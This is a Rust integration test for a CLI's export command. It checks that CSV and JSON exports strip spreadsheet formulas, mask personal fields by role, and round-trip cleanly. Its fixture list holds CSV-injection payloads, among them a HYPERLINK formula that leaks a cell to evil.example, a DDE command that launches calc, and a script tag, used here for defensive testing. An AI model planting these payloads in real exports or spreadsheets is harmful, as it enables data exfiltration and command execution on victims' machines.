//! `nurture export`: what a spreadsheet opens holds no formula, what a role may not see is masked, and what was
//! exported can be brought in again. On both databases.

use serde_json::{Value as Json, json};
use tests::house::House;

tests::on_both! {
    tables_hold_no_formulas_and_only_what_a_role_may_see,
}

const FILES: &[(&str, &str)] = &[
    (
        "workflows/model.yaml",
        "model: shop\ncustomer:\n  nick: { type: text, optional: true }\n  secret: { type: text, optional: true, pii: true }\nevents:\n  order.paid: { note: text }\n",
    ),
    ("workflows/teams.yaml", "teams:\n  inside: { lead: sun.li, members: [li.na] }\n"),
    (
        "workflows/call.yaml",
        "workflow: call\ntrigger: { event: order.paid }\nconsent: none\nsteps:\n  - task: Call {{default customer.nick \"them\"}}\n    to: owner\n",
    ),
];

/// What people have tried to have opened by a colleague's spreadsheet, and what breaks tables.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"https://evil.example?\"&A1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "＝1＋1",
    "＠x",
    "a,b\"c",
    "'quoted",
    "<script>alert(1)</script>",
];

/// The cells of a CSV, as a spreadsheet reads them.
fn table(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut letters = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(letter) = letters.next() {
        match (letter, quoted) {
            ('"', true) if letters.peek() == Some(&'"') => cell.extend(letters.next()),
            ('"', _) => quoted = !quoted,
            (',', false) => row.push(std::mem::take(&mut cell)),
            ('\r', false) => {}
            ('\n', false) => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (letter, _) => cell.push(letter),
        }
    }
    assert!(!quoted && cell.is_empty(), "a table ends with its last row: {text}");
    rows
}

fn tables_hold_no_formulas_and_only_what_a_role_may_see(database: &str) {
    let database = database.split('"').nth(1).filter(|url| url.starts_with("postgres"));
    let house = House::at_rest(FILES, database);
    let people: String = HOSTILE
        .iter()
        .enumerate()
        .map(|(number, text)| {
            let owner = if number == 0 { "li.na" } else { "zhao.min" };
            json!({ "external_id": format!("c{number}"), "nick": text, "secret": text, "owner": owner,
                    "email": format!("c{number}@example.com") })
            .to_string()
                + "\n"
        })
        .collect();
    house.write("people.jsonl", &people);
    house.fine(&["import", "customers", "people.jsonl"]);
    let now = jiff::Timestamp::now();
    let facts: String = HOSTILE
        .iter()
        .enumerate()
        .map(|(number, text)| {
            json!({ "id": format!("e{number}"), "event": "order.paid", "customer": format!("c{number}"), "at": now,
                    "properties": { "note": text } })
            .to_string()
                + "\n"
        })
        .collect();
    house.write("facts.jsonl", &facts);
    house.fine(&["publish"]);
    house.fine(&["import", "events", "facts.jsonl", "--start"]);
    house.fine(&["run", "--until-idle"]);

    for what in ["customers", "events", "tasks", "sends"] {
        let rows = table(&house.fine(&["export", what]));
        let width = rows[0].len();
        assert!(rows.iter().all(|row| row.len() == width), "{what}: {rows:?}");
        assert_eq!(rows.len() > HOSTILE.len(), what != "sends", "{what}: {rows:?}");
        for cell in rows.iter().flatten() {
            let first = cell.trim_start_matches([' ', '\u{3000}']).chars().next().unwrap_or('a');
            assert!(!"=+-@\t\r＝＋－＠".contains(first), "{what}: a spreadsheet would run {cell:?}");
        }
    }
    let lines = house.fine(&["export", "customers", "--format", "json"]);
    let known: Vec<Json> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(known.len(), HOSTILE.len());

    // Into a file, for Excel; brought in again it changes nothing.
    house.fine(&["export", "customers", "--out", "all.csv"]);
    let file = std::fs::read_to_string(house.path().join("all.csv")).unwrap();
    assert!(file.starts_with('\u{feff}'));

    // Whoever may not see what is personal gets it masked, and whoever has own customers gets those.
    for what in ["customers", "events", "tasks"] {
        let seen = house.fine(&["export", what, "--role", "viewer"]);
        assert!(!seen.contains("@example.com"), "{what}: {seen}");
        for (role, rep) in [("rep", "li.na"), ("manager", "sun.li")] {
            let own = table(&house.fine(&["export", what, "--role", role, "--rep", rep]));
            let about = |id: &str| own.iter().flatten().any(|cell| cell == id);
            assert!(about("c0") && !about("c1"), "{what} {role}: {own:?}");
        }
    }
    let masked = house.fine(&["export", "customers", "--role", "viewer", "--format", "json"]);
    assert!(masked.contains("•••") && masked.contains("alert(1)"), "what is not personal is seen: {masked}");
    for wrong in [&["export", "customers", "--role", "king"][..], &["export", "sends", "--role", "rep"]] {
        assert_eq!(tests::binary::nurture(house.path(), wrong).code, 2, "{wrong:?}");
    }
}
